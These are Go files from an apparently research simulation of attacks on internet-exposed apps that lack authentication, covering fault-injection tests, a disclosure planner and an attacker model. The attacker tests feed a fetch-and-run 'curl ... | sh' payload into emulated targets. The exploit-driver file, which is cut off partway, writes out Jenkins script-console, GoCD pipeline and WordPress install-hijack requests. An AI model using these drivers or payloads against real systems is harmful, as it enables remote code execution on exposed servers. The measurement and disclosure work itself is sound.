	// Endpoint draws must be byte-identical with and without a crash rate.
	endpoints := NewPlan(Config{Seed: 11, Rate: 0.5, Kinds: []Kind{Reset}}, nil)
	withCrash := NewPlan(Config{Seed: 11, Rate: 0.5, Kinds: []Kind{Reset}, WorkerCrashRate: 0.9}, nil)
	for port := 80; port < 120; port++ {
		f1 := endpoints.DialFault(ipA, port)
		f2 := withCrash.DialFault(ipA, port)
		if f1 != f2 {
			t.Fatalf("port %d: crash rate changed endpoint draw (%v vs %v)", port, f1, f2)
		}
	}

	if NewPlan(Config{Seed: 11}, nil).WorkerCrash(0, 0, 1) {
		t.Error("zero crash rate drew a crash")
	}
	if !(Config{WorkerCrashRate: 0.1}).Enabled() {
		t.Error("crash-only config reports disabled")
	}
	if err := (Config{WorkerCrashRate: 1.5}).Validate(); err == nil {
		t.Error("crash rate 1.5 validated")
	}
}

// TestWorkerKillDeterministicAndIndependent pins the fabric kill
// schedule's contract: the same (seed, worker, lease) always draws the
// same verdict, the chain never correlates with the shard-crash or
// endpoint chains sharing its seed, and a zero rate never kills.
func TestWorkerKillDeterministicAndIndependent(t *testing.T) {
	a := NewPlan(Config{Seed: 11, WorkerCrashRate: 0.5}, nil)
	b := NewPlan(Config{Seed: 11, WorkerCrashRate: 0.5}, nil)
	var kills, draws int
	for worker := 0; worker < 8; worker++ {
		for lease := 1; lease <= 6; lease++ {
			draws++
			va, vb := a.WorkerKill(worker, lease), b.WorkerKill(worker, lease)
			if va != vb {
				t.Fatalf("WorkerKill(%d,%d) not deterministic", worker, lease)
			}
			if va {
				kills++
			}
		}
	}
	if kills == 0 || kills == draws {
		t.Errorf("kill rate 0.5 drew %d/%d kills", kills, draws)
	}

	// The kill chain must not mirror the shard-crash chain: same seed and
	// rate, same integer arguments, yet the salts keep the schedules
	// distinct somewhere in a modest sweep.
	same := true
	for i := 0; i < 48 && same; i++ {
		same = a.WorkerKill(i%8, i/8+1) == a.WorkerCrash(i%8, i/8+1, 1)
	}
	if same {
		t.Error("WorkerKill shadows WorkerCrash across 48 draws")
	}

	// Endpoint draws must be byte-identical with and without worker kills
	// in play (they hash on independent chains).
	endpoints := NewPlan(Config{Seed: 11, Rate: 0.5, Kinds: []Kind{Reset}}, nil)
	withKills := NewPlan(Config{Seed: 11, Rate: 0.5, Kinds: []Kind{Reset}, WorkerCrashRate: 0.9}, nil)
	for port := 80; port < 120; port++ {
		if endpoints.DialFault(ipA, port) != withKills.DialFault(ipA, port) {
			t.Fatalf("port %d: kill rate changed endpoint draw", port)
		}
	}

	if NewPlan(Config{Seed: 11}, nil).WorkerKill(0, 1) {
		t.Error("zero kill rate drew a kill")
	}
}

// TestParseFlagCrash covers the crash= key of the -faults flag.
func TestParseFlagCrash(t *testing.T) {
	cfg, err := ParseFlag("seed=3,crash=0.25")
	if err != nil {
		t.Fatal(err)
	}
	if cfg.WorkerCrashRate != 0.25 || cfg.Seed != 3 {
		t.Fatalf("ParseFlag crash: %+v", cfg)
	}
	if !cfg.Enabled() {
		t.Error("crash-only spec not enabled")
	}
	if _, err := ParseFlag("crash=nope"); err == nil {
		t.Error("ParseFlag accepted crash=nope")
	}
}
