// Package disclosure implements the responsible-disclosure workflow of
// Section 3.2: vulnerabilities found during an IP scan have no obvious
// contact address, so the paper (1) batches findings belonging to large
// cloud providers into per-provider reports, and (2) for all other hosts
// inspects the TLS certificate presented on the endpoint and derives a
// security@<domain> contact from its subject names.
package disclosure

import (
	"context"
	"fmt"
	"net/netip"
	"sort"
	"strings"

	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

// Finding is one vulnerable endpoint to report.
type Finding struct {
	IP   netip.Addr
	Port int
	App  mav.App
	// TLS reports whether the endpoint speaks TLS (certificate lookup is
	// only possible then).
	TLS bool
}

// ProviderReport batches all findings inside one hosting provider.
type ProviderReport struct {
	ASN      string
	Provider string
	Findings []Finding
}

// DirectReport is an owner notification derived from certificate data.
type DirectReport struct {
	Finding Finding
	Domain  string
	// Contact is the derived notification address.
	Contact string
}

// Plan is the disclosure work list: provider batches, direct contacts, and
// the unreachable remainder.
type Plan struct {
	Providers []ProviderReport
	Direct    []DirectReport
	// Uncontactable lists findings with neither a hosting provider nor a
	// usable certificate.
	Uncontactable []Finding
}

// Notifiable returns how many findings have some notification path.
func (p *Plan) Notifiable() int {
	n := len(p.Direct)
	for _, pr := range p.Providers {
		n += len(pr.Findings)
	}
	return n
}

// Builder constructs disclosure plans.
type Builder struct {
	net *simnet.Network
	db  *geo.DB
}

// New returns a builder inspecting certificates through n and attributing
// addresses through db.
func New(n *simnet.Network, db *geo.DB) *Builder {
	return &Builder{net: n, db: db}
}

// domainFromCert picks the most contact-worthy subject name: the first DNS
// SAN, reduced to its registrable suffix heuristically (last two labels).
func domainFromCert(names []string) string {
	for _, name := range names {
		labels := strings.Split(name, ".")
		if len(labels) >= 2 {
			return strings.Join(labels[len(labels)-2:], ".")
		}
	}
	return ""
}

// Build classifies every finding. Hosting-provider addresses are batched
// per AS; for the rest a TLS handshake is attempted to recover a domain.
func (b *Builder) Build(ctx context.Context, findings []Finding) *Plan {
	plan := &Plan{}
	providerBatches := map[string]*ProviderReport{}
	for _, f := range findings {
		rec := b.db.Lookup(f.IP)
		if rec.Hosting {
			batch := providerBatches[rec.ASN]
			if batch == nil {
				batch = &ProviderReport{ASN: rec.ASN, Provider: rec.Provider}
				providerBatches[rec.ASN] = batch
			}
			batch.Findings = append(batch.Findings, f)
			continue
		}
		if f.TLS {
			if cert, err := httpsim.FetchCertificate(ctx, b.net, f.IP, f.Port); err == nil {
				if domain := domainFromCert(cert.DNSNames); domain != "" {
					plan.Direct = append(plan.Direct, DirectReport{
						Finding: f,
						Domain:  domain,
						Contact: "security@" + domain,
					})
					continue
				}
			}
		}
		plan.Uncontactable = append(plan.Uncontactable, f)
	}
	for _, batch := range providerBatches {
		plan.Providers = append(plan.Providers, *batch)
	}
	sort.Slice(plan.Providers, func(i, j int) bool {
		if len(plan.Providers[i].Findings) != len(plan.Providers[j].Findings) {
			return len(plan.Providers[i].Findings) > len(plan.Providers[j].Findings)
		}
		return plan.Providers[i].ASN < plan.Providers[j].ASN
	})
	return plan
}

// RenderSummary formats the plan for operators.
func (p *Plan) RenderSummary() string {
	var b strings.Builder
	fmt.Fprintf(&b, "disclosure plan: %d provider batches, %d direct contacts, %d uncontactable\n",
		len(p.Providers), len(p.Direct), len(p.Uncontactable))
	for _, pr := range p.Providers {
		fmt.Fprintf(&b, "  %s (%s): %d affected assets\n", pr.Provider, pr.ASN, len(pr.Findings))
	}
	return b.String()
}
