package disclosure

import (
	"context"
	"strings"
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

func TestProviderBatching(t *testing.T) {
	db := geo.Default()
	ec2, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS16509" })
	hetzner, _ := db.PrefixFor(func(r geo.Record) bool { return r.ASN == "AS24940" })

	findings := []Finding{
		{IP: ec2.Addr().Next(), Port: 2375, App: mav.Docker},
		{IP: ec2.Addr().Next().Next(), Port: 8088, App: mav.Hadoop},
		{IP: hetzner.Addr().Next(), Port: 8888, App: mav.JupyterNotebook},
	}
	plan := New(simnet.New(), db).Build(context.Background(), findings)
	if len(plan.Providers) != 2 {
		t.Fatalf("provider batches = %d, want 2", len(plan.Providers))
	}
	// Sorted by affected assets: EC2 first with 2.
	if plan.Providers[0].ASN != "AS16509" || len(plan.Providers[0].Findings) != 2 {
		t.Fatalf("top batch: %+v", plan.Providers[0])
	}
	if plan.Notifiable() != 3 {
		t.Fatalf("notifiable = %d, want 3", plan.Notifiable())
	}
	if !strings.Contains(plan.RenderSummary(), "Amazon EC2") {
		t.Error("summary missing provider name")
	}
}

func TestCertificateDerivedContact(t *testing.T) {
	db := geo.Default()
	// A residential (non-hosting) address with a TLS endpoint whose
	// certificate names a domain.
	res, err := db.PrefixFor(func(r geo.Record) bool { return !r.Hosting })
	if err != nil {
		t.Fatal(err)
	}
	ip := res.Addr().Next()
	n := simnet.New()
	ca, err := httpsim.NewCA()
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.CertFor("blog.smallbiz.example.org", ip.String())
	if err != nil {
		t.Fatal(err)
	}
	inst, err := apps.New(apps.Config{App: mav.WordPress, Installed: false})
	if err != nil {
		t.Fatal(err)
	}
	h := simnet.NewHost(ip)
	h.Bind(443, httpsim.TLSConnHandler(inst.Handler(), cert))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}

	plan := New(n, db).Build(context.Background(), []Finding{
		{IP: ip, Port: 443, App: mav.WordPress, TLS: true},
	})
	if len(plan.Direct) != 1 {
		t.Fatalf("direct contacts = %d, want 1 (%+v)", len(plan.Direct), plan)
	}
	d := plan.Direct[0]
	if d.Contact != "security@example.org" {
		t.Fatalf("contact = %q, want security@example.org", d.Contact)
	}
}

func TestUncontactableFallback(t *testing.T) {
	db := geo.Default()
	res, _ := db.PrefixFor(func(r geo.Record) bool { return !r.Hosting })
	ip := res.Addr().Next()
	// No TLS, residential network: nothing to go on.
	plan := New(simnet.New(), db).Build(context.Background(), []Finding{
		{IP: ip, Port: 80, App: mav.Drupal, TLS: false},
	})
	if len(plan.Uncontactable) != 1 || plan.Notifiable() != 0 {
		t.Fatalf("plan = %+v", plan)
	}
}

func TestDomainFromCert(t *testing.T) {
	cases := []struct {
		names []string
		want  string
	}{
		{[]string{"a.b.example.com"}, "example.com"},
		{[]string{"example.com"}, "example.com"},
		{[]string{"localhost"}, ""},
		{nil, ""},
	}
	for _, c := range cases {
		if got := domainFromCert(c.names); got != c.want {
			t.Errorf("domainFromCert(%v) = %q, want %q", c.names, got, c.want)
		}
	}
}
