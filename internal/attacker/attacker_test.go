package attacker

import (
	"context"
	"net/netip"
	"strings"
	"testing"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
)

var planStart = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)

func TestRosterTotalsMatchTable5(t *testing.T) {
	perApp := map[mav.App]int{}
	for _, spec := range roster() {
		for _, job := range spec.jobs {
			perApp[job.app] += job.attacks
		}
	}
	for app, want := range PaperAttackTotals {
		if perApp[app] != want {
			t.Errorf("%s roster total %d, want %d", app, perApp[app], want)
		}
	}
	total := 0
	for _, n := range perApp {
		total += n
	}
	if total != 2195 {
		t.Fatalf("roster grand total %d, want 2195", total)
	}
	// No roster entry may target an application outside Table 5.
	for app := range perApp {
		if _, ok := PaperAttackTotals[app]; !ok {
			t.Errorf("roster attacks out-of-table app %s", app)
		}
	}
}

func TestBuildPlanDeterministicAndComplete(t *testing.T) {
	db := geo.Default()
	p1 := BuildPlan(db, planStart, 7)
	p2 := BuildPlan(db, planStart, 7)
	if len(p1.Attacks) != len(p2.Attacks) {
		t.Fatalf("same seed, different plan sizes: %d vs %d", len(p1.Attacks), len(p2.Attacks))
	}
	for i := range p1.Attacks {
		if p1.Attacks[i] != p2.Attacks[i] {
			t.Fatalf("same seed, different attack %d", i)
		}
	}
	if len(p1.Attacks) != 2195 {
		t.Fatalf("plan has %d attacks, want 2195", len(p1.Attacks))
	}
	// Sorted by time, all within the study window.
	end := planStart.Add(StudyDuration)
	for i, a := range p1.Attacks {
		if i > 0 && a.Time.Before(p1.Attacks[i-1].Time) {
			t.Fatal("plan not time-sorted")
		}
		if a.Time.Before(planStart) || a.Time.After(end) {
			t.Fatalf("attack %d outside window: %v", i, a.Time)
		}
	}
}

func TestPlanFirstAttackTimes(t *testing.T) {
	plan := BuildPlan(geo.Default(), planStart, 3)
	firsts := map[mav.App]time.Time{}
	for _, a := range plan.Attacks {
		if _, seen := firsts[a.App]; !seen {
			firsts[a.App] = a.Time
		}
	}
	for app, wantHours := range FirstAttackHours {
		got := firsts[app].Sub(planStart).Hours()
		if got < wantHours-0.01 || got > wantHours+0.01 {
			t.Errorf("%s first attack at %.2fh, want %.1fh", app, got, wantHours)
		}
	}
}

func TestPlanSourceGeography(t *testing.T) {
	db := geo.Default()
	plan := BuildPlan(db, planStart, 11)
	countries := map[string]int{}
	for _, a := range plan.Attacks {
		countries[db.Lookup(a.SrcIP).Country]++
	}
	// Shape checks from Table 7: Netherlands and Brazil are heavy,
	// nothing is unattributed.
	if countries["Unknown"] != 0 {
		t.Fatalf("%d attacks from unallocated space", countries["Unknown"])
	}
	if countries["Netherlands"] < 300 {
		t.Errorf("Netherlands %d attacks, want >300 (paper 496)", countries["Netherlands"])
	}
	if countries["Brazil"] < 250 {
		t.Errorf("Brazil %d attacks, want >250 (paper 398)", countries["Brazil"])
	}
}

func TestPayloadVariantsAreDistinct(t *testing.T) {
	p1 := Payload{Family: FamilyMiner, Variant: 1}
	p2 := Payload{Family: FamilyMiner, Variant: 2}
	if p1.Command() == p2.Command() {
		t.Fatal("different variants must render different commands")
	}
	if p1.Key() == p2.Key() {
		t.Fatal("different variants must have different keys")
	}
	if p1.Command() != p1.Command() {
		t.Fatal("payload rendering must be deterministic")
	}
}

func TestEveryInScopeAppHasDriver(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		if _, ok := drivers[info.App]; !ok {
			t.Errorf("no exploit driver for %s", info.App)
		}
	}
	if err := Exploit(context.Background(), nil, mav.Ghost, "http://x", "id"); err == nil {
		t.Error("out-of-scope app must have no driver")
	}
}

// deployVulnerable builds one vulnerable emulated instance reachable over
// a fresh simnet, recording executions.
func deployVulnerable(t *testing.T, app mav.App) (*simnet.Network, netip.Addr, int, *[]string) {
	t.Helper()
	var cmds []string
	sink := apps.ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, cmd string) {
		cmds = append(cmds, cmd)
	})
	cfg := apps.Config{App: app, Exec: sink, Options: map[string]bool{}}
	switch app {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		cfg.Installed = false
		if app == mav.Joomla {
			cfg.Version = "3.6.0"
		}
	case mav.Consul:
		cfg.Options["enableScriptChecks"] = true
	case mav.Ajenti:
		cfg.Options["autologin"] = true
	case mav.PhpMyAdmin:
		cfg.Options["allowNoPassword"] = true
	case mav.Adminer:
		cfg.Options["emptyDBPassword"] = true
		cfg.Version = "4.2.5"
	default:
		cfg.AuthRequired = false
	}
	inst, err := apps.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	n := simnet.New()
	ip := netip.MustParseAddr("10.30.0.99")
	h := simnet.NewHost(ip)
	port := mav.MustLookup(app).Ports[0]
	h.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return n, ip, port, &cmds
}

// TestDriversExecuteAgainstVulnerableTargets proves each exploit driver
// really drives its application to command execution. Drupal's driver only
// hijacks the installation (no exec surface is modeled), so it is checked
// for success without an exec event.
func TestDriversExecuteAgainstVulnerableTargets(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		info := info
		t.Run(string(info.App), func(t *testing.T) {
			n, ip, port, cmds := deployVulnerable(t, info.App)
			client := httpsim.NewClient(n, httpsim.ClientOptions{
				SourceIP:          netip.MustParseAddr("203.0.113.50"),
				DisableKeepAlives: true,
			})
			base := "http://" + ip.String() + ":" + itoa(port)
			command := "curl -fsSL http://203.0.113.10/x.sh | sh"
			if err := Exploit(context.Background(), client, info.App, base, command); err != nil {
				t.Fatalf("exploit failed: %v", err)
			}
			if info.App == mav.Drupal {
				return
			}
			if len(*cmds) == 0 {
				t.Fatal("no command executed")
			}
			if !strings.Contains((*cmds)[0], "203.0.113.10") {
				t.Fatalf("executed %q, payload lost", (*cmds)[0])
			}
		})
	}
}

// TestDriversFailAgainstSecureTargets: the same drivers against secured
// deployments must fail and execute nothing.
func TestDriversFailAgainstSecureTargets(t *testing.T) {
	for _, info := range mav.InScopeApps() {
		if info.App == mav.Polynote {
			continue // cannot be secured
		}
		info := info
		t.Run(string(info.App), func(t *testing.T) {
			var cmds []string
			sink := apps.ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, cmd string) {
				cmds = append(cmds, cmd)
			})
			cfg := apps.Config{App: info.App, Exec: sink, Installed: true, AuthRequired: true, Options: map[string]bool{}}
			inst, err := apps.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			n := simnet.New()
			ip := netip.MustParseAddr("10.30.0.98")
			h := simnet.NewHost(ip)
			port := info.Ports[0]
			h.Bind(port, httpsim.ConnHandler(inst.Handler()))
			if err := n.AddHost(h); err != nil {
				t.Fatal(err)
			}
			client := httpsim.NewClient(n, httpsim.ClientOptions{DisableKeepAlives: true})
			base := "http://" + ip.String() + ":" + itoa(port)
			err = Exploit(context.Background(), client, info.App, base, "id")
			if err == nil && len(cmds) > 0 {
				t.Fatalf("exploit succeeded against secure %s: %v", info.App, cmds)
			}
			if len(cmds) != 0 {
				t.Fatalf("secure %s executed %v", info.App, cmds)
			}
		})
	}
}

func TestScheduleTimesRampLate(t *testing.T) {
	plan := BuildPlan(geo.Default(), planStart, 5)
	// The vigilante ramps late: all its attacks are in the second half.
	for _, a := range plan.Attacks {
		if a.Actor != "vigilante" {
			continue
		}
		if a.Time.Sub(planStart).Hours() < 300 {
			t.Fatalf("vigilante attack at %.0fh, want >=300h", a.Time.Sub(planStart).Hours())
		}
	}
}
