package attacker

import (
	"fmt"

	"mavscan/internal/mav"
)

// The roster below is the attacker-population model calibrated against the
// paper's observations (Tables 5-8, Figures 3-4):
//
//   - per-application attack volumes: Hadoop 1921, Docker 132,
//     J-Notebook 99, J-Lab 29, WordPress 9, Jenkins 4, Grav 1 (2195 total),
//   - a small head of heavy attackers (top five ≈ two thirds of all
//     attacks, the single heaviest performing ~719 Hadoop attacks),
//   - cross-application actors linking Hadoop+Docker and the two Jupyter
//     products (Figure 4), including the Kinsing campaign spreading from
//     Docker to Hadoop,
//   - a long tail of one-or-two-shot attackers carrying the unique-attack
//     counts,
//   - source placement dominated by the ASes and countries of Tables 7/8,
//   - the vigilante who repeatedly shuts down the Jupyter Lab honeypot.
//
// First-attack times per application come from Table 6.

// ipSpec places n source addresses in a (country, ASN) allocation.
type ipSpec struct {
	country string
	asn     string
	n       int
}

// assignment is one actor's activity against one application.
type assignment struct {
	app     mav.App
	attacks int
	// variants is how many distinct payload variants the actor deploys
	// against this application; unique attacks stem from fresh
	// (variant, source IP) pairs.
	variants int
	family   Family
	// startHour is when the actor first fires, in hours from exposure.
	startHour float64
	// rampLate concentrates the activity toward the end of the study
	// (the Jupyter Lab pattern in Figure 3).
	rampLate bool
}

// actorSpec declares one attacker.
type actorSpec struct {
	name string
	ips  []ipSpec
	jobs []assignment
}

// FirstAttackHours reproduces Table 6's "First" column.
var FirstAttackHours = map[mav.App]float64{
	mav.Hadoop:          0.8,
	mav.WordPress:       2.8,
	mav.Docker:          6.7,
	mav.JupyterNotebook: 48.0,
	mav.JupyterLab:      133.7,
	mav.Jenkins:         172.4,
	mav.Grav:            355.1,
}

// roster builds the full actor population.
func roster() []actorSpec {
	specs := []actorSpec{
		{
			name: "actor-01",
			ips:  []ipSpec{{"Netherlands", "AS211252", 6}, {"United States", "AS14061", 4}},
			jobs: []assignment{{mav.Hadoop, 719, 8, FamilyMiner, 0.8, false}},
		},
		{
			name: "actor-02", // the Kinsing campaign: Docker first, now Hadoop
			ips:  []ipSpec{{"Brazil", "AS268624", 4}},
			jobs: []assignment{
				{mav.Hadoop, 300, 6, FamilyKinsing, 6, false},
				{mav.Docker, 24, 2, FamilyKinsing, 6.7, false},
			},
		},
		{
			name: "actor-03",
			ips:  []ipSpec{{"Singapore", "AS14061", 2}, {"United States", "AS16509", 1}},
			jobs: []assignment{{mav.Hadoop, 250, 5, FamilyMiner, 12, false}},
		},
		{
			name: "actor-04",
			ips:  []ipSpec{{"Russia", "AS49505", 2}},
			jobs: []assignment{{mav.Hadoop, 150, 4, FamilyMiner, 24, false}},
		},
		{
			name: "actor-05",
			ips:  []ipSpec{{"Moldova", "AS200019", 2}},
			jobs: []assignment{{mav.Hadoop, 90, 3, FamilyDropper, 10, false}},
		},
		{
			name: "actor-06",
			ips:  []ipSpec{{"Netherlands", "AS211252", 2}},
			jobs: []assignment{{mav.Hadoop, 80, 3, FamilyMiner, 30, false}},
		},
		{
			name: "actor-07",
			ips:  []ipSpec{{"United States", "AS16509", 2}},
			jobs: []assignment{{mav.Hadoop, 75, 2, FamilyDropper, 48, false}},
		},
		{
			name: "actor-08",
			ips:  []ipSpec{{"Poland", "AS12824", 2}},
			jobs: []assignment{{mav.Hadoop, 70, 2, FamilyMiner, 60, false}},
		},
		{
			name: "actor-09",
			ips:  []ipSpec{{"United Kingdom", "AS20473", 2}},
			jobs: []assignment{{mav.Hadoop, 60, 2, FamilyDropper, 72, false}},
		},
		{
			name: "actor-10", // the second Hadoop+Docker Kinsing actor
			ips:  []ipSpec{{"Russia", "AS49505", 1}, {"United States", "AS14061", 1}},
			jobs: []assignment{
				{mav.Hadoop, 20, 1, FamilyKinsing, 100, false},
				{mav.Docker, 12, 1, FamilyKinsing, 48, false},
			},
		},
		{
			name: "actor-I", // most IPs (14), Docker + J-Notebook
			ips: []ipSpec{
				{"United States", "AS14061", 4},
				{"Netherlands", "AS211252", 4},
				{"Poland", "AS12824", 6},
			},
			jobs: []assignment{
				{mav.Docker, 25, 3, FamilyDropper, 20, false},
				{mav.JupyterNotebook, 20, 5, FamilyDropper, 48, false},
			},
		},
		{
			name: "actor-d1", // heaviest pure-Docker attacker (63 attacks)
			ips:  []ipSpec{{"United States", "AS16509", 3}, {"India", "AS9829", 3}},
			jobs: []assignment{{mav.Docker, 63, 3, FamilyMiner, 6.7, false}},
		},
		{
			name: "actor-n1",
			ips:  []ipSpec{{"Switzerland", "AS51395", 2}},
			jobs: []assignment{
				{mav.JupyterNotebook, 15, 6, FamilyMiner, 55, false},
				{mav.JupyterLab, 8, 4, FamilyMiner, 133.7, true},
			},
		},
		{
			name: "actor-n2",
			ips:  []ipSpec{{"India", "AS9829", 2}},
			jobs: []assignment{
				{mav.JupyterNotebook, 10, 4, FamilyDropper, 60, false},
				{mav.JupyterLab, 6, 3, FamilyDropper, 200, true},
			},
		},
		{
			name: "vigilante",
			ips:  []ipSpec{{"United States", "AS7922", 1}},
			jobs: []assignment{{mav.JupyterLab, 5, 1, FamilyVigilante, 300, true}},
		},
		{
			name: "actor-j1",
			ips:  []ipSpec{{"United Kingdom", "AS20473", 1}},
			jobs: []assignment{{mav.Jenkins, 2, 1, FamilyDropper, 172.4, false}},
		},
		{
			name: "actor-j2",
			ips:  []ipSpec{{"Poland", "AS12824", 1}},
			jobs: []assignment{{mav.Jenkins, 1, 1, FamilyMiner, 300, false}},
		},
		{
			name: "actor-j3",
			ips:  []ipSpec{{"Russia", "AS49505", 1}},
			jobs: []assignment{{mav.Jenkins, 1, 1, FamilyDropper, 500, false}},
		},
		{
			name: "actor-w1",
			ips:  []ipSpec{{"United States", "AS14061", 2}},
			jobs: []assignment{{mav.WordPress, 4, 1, FamilySpam, 2.8, false}},
		},
		{
			name: "actor-w2",
			ips:  []ipSpec{{"Singapore", "AS14061", 1}},
			jobs: []assignment{{mav.WordPress, 3, 1, FamilySpam, 250, false}},
		},
		{
			name: "actor-w3",
			ips:  []ipSpec{{"Moldova", "AS200019", 1}},
			jobs: []assignment{{mav.WordPress, 1, 1, FamilySpam, 400, false}},
		},
		{
			name: "actor-w4",
			ips:  []ipSpec{{"Switzerland", "AS51395", 1}},
			jobs: []assignment{{mav.WordPress, 1, 1, FamilySpam, 500, false}},
		},
		{
			name: "actor-g1",
			ips:  []ipSpec{{"Netherlands", "AS211252", 1}},
			jobs: []assignment{{mav.Grav, 1, 1, FamilySpam, 355.1, false}},
		},
	}

	// Four small Hadoop+Docker cross actors (2 Docker + 3 Hadoop each).
	crossCountries := []ipSpec{
		{"United States", "AS16509", 1},
		{"Netherlands", "AS211252", 1},
		{"Brazil", "AS268624", 1},
		{"Russia", "AS49505", 1},
	}
	for i, ip := range crossCountries {
		specs = append(specs, actorSpec{
			name: fmt.Sprintf("actor-x%d", i+1),
			ips:  []ipSpec{ip},
			jobs: []assignment{
				{mav.Docker, 2, 1, FamilyKinsing, 80 + float64(i)*50, false},
				{mav.Hadoop, 3, 1, FamilyKinsing, 90 + float64(i)*50, false},
			},
		})
	}

	// Hadoop long tail: 95 attacks across 21 one-off actors.
	tailPlaces := []ipSpec{
		{"United States", "AS16509", 1}, {"Netherlands", "AS211252", 1},
		{"Brazil", "AS268624", 1}, {"Russia", "AS49505", 1},
		{"Singapore", "AS14061", 1}, {"India", "AS9829", 1},
		{"Poland", "AS12824", 1}, {"United Kingdom", "AS20473", 1},
		{"Moldova", "AS200019", 1}, {"Switzerland", "AS51395", 1},
	}
	remaining := 95
	for i := 0; i < 21; i++ {
		n := 5
		if remaining < 5 {
			n = remaining
		}
		if i == 20 {
			n = remaining
		}
		if n <= 0 {
			break
		}
		remaining -= n
		specs = append(specs, actorSpec{
			name: fmt.Sprintf("actor-ht%02d", i+1),
			ips:  []ipSpec{tailPlaces[i%len(tailPlaces)]},
			jobs: []assignment{{mav.Hadoop, n, 1, FamilyDropper, 24 + float64(i)*28, false}},
		})
	}

	// Jupyter Notebook long tail: 54 attacks across 40 actors (26 single,
	// 14 double), each bringing a fresh IP and payload — the reason nearly
	// every J-Notebook attack is unique in Table 5.
	for i := 0; i < 40; i++ {
		n := 1
		if i < 14 {
			n = 2
		}
		specs = append(specs, actorSpec{
			name: fmt.Sprintf("actor-nt%02d", i+1),
			ips:  []ipSpec{tailPlaces[i%len(tailPlaces)]},
			jobs: []assignment{{mav.JupyterNotebook, n, 1, FamilyDropper, 50 + float64(i)*15, false}},
		})
	}

	// Jupyter Lab long tail: 10 single-attack actors.
	for i := 0; i < 10; i++ {
		specs = append(specs, actorSpec{
			name: fmt.Sprintf("actor-lt%02d", i+1),
			ips:  []ipSpec{tailPlaces[(i+3)%len(tailPlaces)]},
			jobs: []assignment{{mav.JupyterLab, 1, 1, FamilyDropper, 140 + float64(i)*50, true}},
		})
	}
	return specs
}

// PaperAttackTotals is Table 5's "# Attacks" column, used by tests and the
// bench harness.
var PaperAttackTotals = map[mav.App]int{
	mav.Jenkins:         4,
	mav.WordPress:       9,
	mav.Grav:            1,
	mav.Docker:          132,
	mav.Hadoop:          1921,
	mav.JupyterLab:      29,
	mav.JupyterNotebook: 99,
}
