package attacker

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"mavscan/internal/limits"
	"mavscan/internal/mav"
)

// driver carries out one real exploitation attempt against a target: the
// same HTTP requests an attacker in the wild issues. command is the shell
// command (or PHP/SQL payload) to run on the victim.
type driver func(ctx context.Context, client *http.Client, base string, command string) error

func post(ctx context.Context, client *http.Client, u string, contentType string, body string) (*http.Response, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u, strings.NewReader(body))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", contentType)
	return client.Do(req)
}

// discard drains the body (capped at limits.DrainBody) so the connection
// can be reused, surfacing the read error the old version dropped: against
// a weaponized endpoint a failed drain is the only symptom the exchange
// did not really complete.
func discard(resp *http.Response) error {
	err := limits.Drain(resp.Body)
	if cerr := resp.Body.Close(); err == nil {
		err = cerr
	}
	return err
}

func expect2xx(resp *http.Response, what string) error {
	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
		_ = discard(resp) // the status failure is the better error
		return fmt.Errorf("attacker: %s: status %d", what, resp.StatusCode)
	}
	if err := discard(resp); err != nil {
		return fmt.Errorf("attacker: %s: draining response: %w", what, err)
	}
	return nil
}

func postForm(ctx context.Context, client *http.Client, u string, form url.Values) (*http.Response, error) {
	return post(ctx, client, u, "application/x-www-form-urlencoded", form.Encode())
}

func postJSON(ctx context.Context, client *http.Client, u string, v interface{}) (*http.Response, error) {
	var buf bytes.Buffer
	if err := json.NewEncoder(&buf).Encode(v); err != nil {
		return nil, err
	}
	return post(ctx, client, u, "application/json", buf.String())
}

// drivers maps each application to its exploitation procedure.
var drivers = map[mav.App]driver{
	mav.Jenkins: func(ctx context.Context, c *http.Client, base, cmd string) error {
		resp, err := postForm(ctx, c, base+"/scriptText", url.Values{"script": {cmd}})
		if err != nil {
			return err
		}
		return expect2xx(resp, "jenkins scriptText")
	},
	mav.GoCD: func(ctx context.Context, c *http.Client, base, cmd string) error {
		body := map[string]interface{}{
			"pipeline": map[string]interface{}{
				"name": "build",
				"stages": []interface{}{map[string]interface{}{
					"jobs": []interface{}{map[string]interface{}{
						"tasks": []interface{}{map[string]string{"command": cmd}},
					}},
				}},
			},
		}
		resp, err := postJSON(ctx, c, base+"/go/api/admin/pipelines", body)
		if err != nil {
			return err
		}
		return expect2xx(resp, "gocd pipeline create")
	},
	mav.WordPress: func(ctx context.Context, c *http.Client, base, cmd string) error {
		// Install hijack: complete the installation with our own password,
		// then use the admin panel's theme editor to plant PHP.
		const pass = "attacker-pass-1337"
		resp, err := postForm(ctx, c, base+"/wp-admin/install.php?step=2", url.Values{
			"weblog_title": {"pwned"}, "user_name": {"admin"}, "admin_password": {pass},
		})
		if err != nil {
			return err
		}
		if err := expect2xx(resp, "wordpress install"); err != nil {
			return err
		}
		resp, err = postForm(ctx, c, base+"/wp-admin/theme-editor.php", url.Values{
			"password": {pass}, "newcontent": {cmd},
		})
		if err != nil {
			return err
		}
		return expect2xx(resp, "wordpress theme editor")
	},
	mav.Grav: func(ctx context.Context, c *http.Client, base, cmd string) error {
		const pass = "attacker-pass-1337"
